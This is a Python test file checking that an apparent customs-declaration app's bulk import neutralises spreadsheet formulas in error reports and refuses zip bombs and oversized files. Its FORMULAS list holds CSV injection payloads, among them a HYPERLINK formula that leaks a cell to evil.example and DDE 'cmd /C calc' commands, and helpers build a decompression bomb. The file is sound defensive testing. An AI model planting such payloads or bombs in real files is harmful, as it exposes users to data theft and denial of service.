"""Bulk files: the error report never hands a spreadsheet a formula, and a zip bomb or an endless file is refused
before it is parsed."""

from __future__ import annotations

import csv
import io
import time
import zipfile

import pytest
from typer.testing import CliRunner

from clearway.bulk.readers import UnusableInput, read_bytes
from clearway.bulk.schemas import RowError
from clearway.bulk.service import errors_csv
from clearway.cli import app
from tests.bulk.conftest import bulk_table, trader_a
from tests.bulk.files import flat, write_csv
from tests.factories import document

__all__ = ["bulk_table", "trader_a"]
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"]


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("value", FORMULAS)
def test_the_error_report_turns_every_formula_into_text(value):
    rows = _cells(errors_csv([RowError(row=2, column=value, value=value, code="country.unknown",
                                       params={"value": value})]))
    for cell in (rows[0]["column"], rows[0]["value"], rows[0]["message"]):
        assert cell.startswith("'"), cell
    assert rows[0]["value"] == "'" + value  # the trader still sees exactly what it wrote


def test_plain_values_stay_as_they_are():
    rows = _cells(errors_csv([RowError(row=2, column="origin_country", value="ZZ", code="country.unknown",
                                       params={"value": "ZZ"})]))
    assert (rows[0]["column"], rows[0]["value"]) == ("origin_country", "ZZ")


def test_a_formula_in_an_imported_row_comes_back_as_text(trader_a, tmp_path):
    bad = document()
    bad["items"][0]["origin_country"] = FORMULAS[0]
    out = tmp_path / "errors.csv"
    result = CliRunner().invoke(app, ["import", "declarations", str(write_csv(tmp_path / "in.csv", flat([bad]))),
                                      "--as", "trader-a", "--errors", str(out)])
    assert result.exit_code == 1, result.output
    rows = _cells(out.read_text("utf-8-sig"))
    assert rows and all(not r["value"].startswith(("=", "+", "-", "@")) for r in rows)
    assert any(r["value"] == "'" + FORMULAS[0] for r in rows)


def _bomb(expanded_mb: int) -> bytes:
    """A small XLSX whose one sheet inflates to many megabytes of XML."""
    row = b'<row><c t="inlineStr"><is><t>A</t></is></c></row>'
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/content-types"/>')
        with z.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            chunk = row * 20_000
            for _ in range(expanded_mb * 1_000_000 // len(chunk)):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


def test_an_xlsx_bomb_is_refused_before_parsing(db_url):
    data = _bomb(130)
    assert len(data) < 1_000_000  # under a megabyte on the wire
    started = time.perf_counter()
    with pytest.raises(UnusableInput) as refused:
        read_bytes(data, "bomb.xlsx")
    assert time.perf_counter() - started < 1.0
    assert "expands to" in refused.value.problems[0].params["reason"]


@pytest.mark.parametrize("name", ["many.csv", "many.jsonl"])
def test_a_file_with_too_many_rows_is_refused(db_url, monkeypatch, name):
    from clearway.config import get_settings

    monkeypatch.setenv("CLEARWAY_BULK_MAX_ROWS", "10")
    get_settings.cache_clear()
    if name.endswith(".csv"):
        data = ("lrn,hs_code\n" + "".join(f"L{n},851713\n" for n in range(11))).encode()
    else:
        data = "".join("{}\n" for _ in range(11)).encode()
    with pytest.raises(UnusableInput) as refused:
        read_bytes(data, name)
    assert "more than 10 rows" in refused.value.problems[0].params["reason"]
    get_settings.cache_clear()


def _wide(rows: int, claimed: str | None, far: str | None, header: str = "") -> bytes:
    """A tiny workbook whose <dimension> claims `claimed` (e.g. A1:XFD1048576) and whose rows may each hold one
    cell in column `far`: openpyxl pads every row it reads to the claimed width, or else to its last cell."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    header = header or "".join(f'<c t="inlineStr"><is><t>{name}</t></is></c>' for name in ("lrn", "hs_code"))
    dimension = f'<dimension ref="{claimed}"/>' if claimed else ""
    body = "".join(f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>L{n}</t></is></c>'
                   + (f'<c r="{far}{n}" t="inlineStr"><is><t>x</t></is></c>' if far else "") + "</row>"
                   for n in range(2, rows + 1))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
                   'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>')
        z.writestr("_rels/.rels", f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                   f'relationships"><Relationship Id="r1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/>'
                   '</Relationships>')
        z.writestr("xl/workbook.xml", f'<workbook xmlns="{main}" xmlns:r="{rel}"><sheets><sheet name="S" '
                   'sheetId="1" r:id="r1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", f'<Relationships xmlns="http://schemas.openxmlformats.org/'
                   f'package/2006/relationships"><Relationship Id="r1" Type="{rel}/worksheet" '
                   'Target="worksheets/sheet1.xml"/></Relationships>')
        z.writestr("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{main}">{dimension}<sheetData>'
                   f'<row r="1">{header}</row>{body}</sheetData></worksheet>')
    return buffer.getvalue()


@pytest.mark.parametrize("claimed, far", [("A1:XFD1048576", None), (None, "XFD")])
def test_a_workbook_claiming_thousands_of_columns_is_read_at_the_width_of_its_header(db_url, claimed, far):
    import tracemalloc

    data = _wide(3000, claimed, far)
    assert len(data) < 40_000
    tracemalloc.start()
    with pytest.raises(UnusableInput) as refused:  # the header lacks required columns: the rows were read first
        read_bytes(data, "wide.xlsx")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert "missing required columns" in refused.value.problems[0].params["reason"]
    # Padded to 16,384 cells a row, these 3,000 rows took 410 MB (and 3.5 s); 100,000 would not fit in memory.
    assert peak < 30_000_000, peak


def test_a_header_wider_than_the_column_cap_is_refused(db_url):
    header = '<c r="A1" t="inlineStr"><is><t>lrn</t></is></c><c r="ZZZ1" t="inlineStr"><is><t>hs_code</t></is></c>'
    with pytest.raises(UnusableInput) as refused:
        read_bytes(_wide(3, None, None, header), "wide.xlsx")
    assert refused.value.problems[0].params["reason"] == \
        "the header spans 18278 columns, more than the 256 accepted"
